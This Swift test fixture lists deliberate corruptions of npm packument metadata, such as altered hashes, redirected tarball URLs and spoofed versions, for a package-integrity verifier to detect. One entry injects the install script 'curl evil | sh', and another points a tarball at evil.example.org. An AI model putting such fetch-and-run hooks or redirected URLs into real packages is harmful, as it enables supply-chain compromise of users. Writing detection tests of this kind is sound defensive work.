import OrderedJSON
import TestSupport

extension Corruption {
  private typealias Tree = CorruptibleTree

  /// In what a packument says of a version.
  static let versions: [Corruption] = [
    Corruption("an integrity is another", "tree-tarball-differs") {
      try $0.edit(Tree.bolt, "versions", "1.0.0", "dist", "integrity") { _ in
        .string("sha512-" + String(repeating: "A", count: 86) + "==")
      }
    },
    Corruption("an integrity is a sha1", "tree-dist-differs") {
      try $0.edit(Tree.bolt, "versions", "1.0.0", "dist", "integrity") { _ in "sha1-AAAA" }
    },
    Corruption("a shasum is another", "tree-tarball-differs") {
      try $0.edit(Tree.bolt, "versions", "1.0.0", "dist", "shasum") { _ in
        .string(String(repeating: "0", count: 40))
      }
    },
    Corruption("a shasum is missing", "tree-dist-differs") {
      try $0.edit(Tree.bolt, "versions", "1.1.0", "dist", "shasum") { _ in nil }
    },
    Corruption("a fileCount is another", "tree-dist-differs") {
      try $0.edit(Tree.bolt, "versions", "1.1.0", "dist", "fileCount") { _ in 7 }
    },
    Corruption("an unpackedSize is another", "tree-dist-differs") {
      try $0.edit(Tree.nut, "versions", "1.0.0", "dist", "unpackedSize") { _ in 1 }
    },
    Corruption("a tarball's URL leads to another host", "tree-dist-differs") {
      try $0.edit(Tree.nut, "versions", "1.0.0", "dist", "tarball") { _ in
        "https://evil.example.org/@acme/nut/-/nut-1.0.0.tgz"
      }
    },
    Corruption("a tarball's URL leads to another package", "tree-dist-differs") {
      try $0.replace("/bolt/-/bolt-1.0.0.tgz", with: "/@acme/nut/-/nut-1.0.0.tgz", in: Tree.bolt)
    },
    Corruption("a tarball's URL is relative", "tree-dist-differs") {
      try $0.edit(Tree.bolt, "versions", "1.0.0", "dist", "tarball") { _ in
        "/bolt/-/bolt-1.0.0.tgz"
      }
    },
    Corruption("dist has signatures that nobody made", "tree-dist-differs") {
      try $0.edit(Tree.bolt, "versions", "1.0.0", "dist", "signatures") { _ in
        [["keyid": "SHA256:x", "sig": "y"]]
      }
    },
    Corruption("dist is missing", "tree-dist-differs") {
      try $0.edit(Tree.bolt, "versions", "1.0.0", "dist") { _ in nil }
    },
    Corruption("a dependency is not in the tarball", "tree-manifest-differs") {
      try $0.edit(Tree.bolt, "versions", "1.1.0", "dependencies", "evil") { _ in "*" }
    },
    Corruption("a dependency is only in the tarball", "tree-manifest-differs") {
      try $0.edit(Tree.bolt, "versions", "1.1.0", "dependencies") { _ in nil }
    },
    Corruption("an install script is not in the tarball", "tree-manifest-differs") { tree in
      try tree.edit(Tree.bolt, "versions", "1.1.0", "scripts", "install") { _ in "curl evil | sh" }
      try tree.edit(Tree.bolt, "versions", "1.1.0", "hasInstallScript") { _ in true }
    },
    Corruption("a command runs another file", "tree-manifest-differs") {
      try $0.edit(Tree.bolt, "versions", "1.0.0", "bin", "bolt") { _ in "evil.js" }
    },
    Corruption("the conditions of exports are in another order", "tree-manifest-differs") {
      try $0.edit(Tree.nut, "versions", "1.2.0", "exports") { _ in
        ["default": "./d.js", "node": "./n.js"]
      }
    },
    Corruption("a version has the name of another package", "tree-manifest-differs") {
      try $0.edit(Tree.bolt, "versions", "1.0.0", "name") { _ in "nut" }
    },
    Corruption("a version says that it is another", "tree-manifest-differs") {
      try $0.edit(Tree.bolt, "versions", "1.0.0", "version") { _ in "1.0.1" }
    },
    Corruption("an _id is another", "tree-manifest-differs") {
      try $0.edit(Tree.bolt, "versions", "1.0.0", "_id") { _ in "bolt@1.0.1" }
    },
    Corruption("a version is no version", "tree-document-invalid") {
      try $0.replace(#""versions":{"1.0.0":"#, with: #""versions":{"one":"#, in: Tree.bolt)
    },
    Corruption("a version has build metadata", "tree-document-invalid") {
      try $0.replace(#""versions":{"1.0.0":"#, with: #""versions":{"1.0.0+b":"#, in: Tree.bolt)
    },
    Corruption("there are no versions", "tree-document-invalid") {
      try $0.edit(Tree.bolt, "versions") { _ in [:] }
    },
    Corruption(
      "a version is left out of the packument", "tree-file-unexpected",
      remotely: "tree-document-differs"
    ) { tree in
      try tree.edit(Tree.bolt, "versions", "1.0.0") { _ in nil }
      try tree.edit(Tree.bolt, "time", "1.0.0") { _ in nil }
      try tree.edit(Tree.bolt, "time", "created") { _ in "2017-07-15T02:40:00.000Z" }
    },
  ]
}
